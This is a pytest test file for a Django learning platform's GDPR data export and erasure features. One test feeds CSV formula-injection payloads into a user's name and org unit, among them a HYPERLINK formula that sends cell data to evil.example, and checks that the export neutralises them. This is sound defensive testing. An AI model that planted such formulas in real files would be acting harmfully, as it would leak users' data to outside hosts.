"""A person downloads all of their data (Art. 15/20 GDPR) and erasure removes it everywhere."""

import csv
import io
import json
import uuid
import zipfile

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command

from lms.accounts.models import AuditLogEntry
from lms.xapi import events, vocabulary
from lms.xapi.iris import activity_iri
from lms.xapi.models import Statement
from tests.conftest import log_in

pytestmark = pytest.mark.django_db

COURSE = events.Activity(
    iri=activity_iri("course", "datenqualitaet"), name="Datenqualität", type=vocabulary.TYPE_COURSE
)


def test_learner_downloads_own_data_as_json_without_anyone_elses(client, make_user):
    lea = make_user("lea@example.org")
    other = make_user("other@example.org")
    mine = events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4())
    events.course_launched(user=other, course=COURSE, registration=uuid.uuid4())
    log_in(client, lea)

    response = client.get("/me/export.json")

    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('meine-daten.json"')
    sections = json.loads(response.content)["sections"]
    assert sections["account"][0]["email"] == "lea@example.org"
    assert [record["id"] for record in sections["learning_records"]] == [str(mine.id)]
    assert "other@example.org" not in response.content.decode()
    assert {"enrolments", "assessment_attempts", "competency_evidence"} <= set(sections)
    assert AuditLogEntry.objects.filter(action="personal_data.exported", actor=lea).exists()


def test_learner_downloads_csv_files_in_a_zip(client, make_user):
    lea = make_user("lea@example.org")
    events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4())
    log_in(client, lea)

    response = client.get("/me/export.zip")

    archive = zipfile.ZipFile(io.BytesIO(response.content))
    assert {"data.json", "account.csv", "learning_records.csv"} <= set(archive.namelist())
    assert "lea@example.org" in archive.read("account.csv").decode()
    assert COURSE.iri in archive.read("learning_records.csv").decode()


def test_csv_files_in_the_zip_hold_formula_text_inert(client, make_user, make_unit):
    formula = '=HYPERLINK("https://evil.example/?"&A1;"Details")'
    unit = make_unit("@SUM(1+1)*cmd")
    lea = make_user("lea@example.org", first_name=formula, last_name="-Muster", org_unit=unit)
    log_in(client, lea)

    archive = zipfile.ZipFile(io.BytesIO(client.get("/me/export.zip").content))

    for name in archive.namelist():
        if name.endswith(".csv"):
            rows = csv.reader(io.StringIO(archive.read(name).decode()))
            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
    account = next(csv.DictReader(io.StringIO(archive.read("account.csv").decode())))
    assert (account["first_name"], account["last_name"]) == ("'" + formula, "'-Muster")
    assert account["org_unit"] == "'@SUM(1+1)*cmd"
    # The JSON copy holds the exact values.
    assert json.loads(archive.read("data.json"))["account"][0]["first_name"] == formula


def test_export_needs_login_and_a_known_format(client, make_user):
    assert client.get("/me/export.json").status_code == 302
    log_in(client, make_user("lea@example.org"))
    assert client.get("/me/export.xml").status_code == 404


def test_deleting_a_person_in_the_admin_erases_their_learning_records(client, make_user):
    admin = make_user("admin@example.org", groups=("Learner", "Administrator"))
    lea = make_user("lea@example.org")
    events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4())
    log_in(client, admin)

    response = client.post(f"/cms/users/delete/{lea.pk}/")

    assert response.status_code == 302
    assert not get_user_model().objects.filter(pk=lea.pk).exists()
    assert not Statement.objects.filter(object_id=COURSE.iri).exists()


def test_erase_person_command_removes_account_and_records(make_user):
    lea = make_user("lea@example.org")
    events.course_launched(user=lea, course=COURSE, registration=uuid.uuid4())

    call_command("erase_person", "lea@example.org")

    assert not get_user_model().objects.filter(email="lea@example.org").exists()
    assert not Statement.objects.exists()
    entry = AuditLogEntry.objects.get(action="person.erased")
    assert entry.details["statements"] >= 1
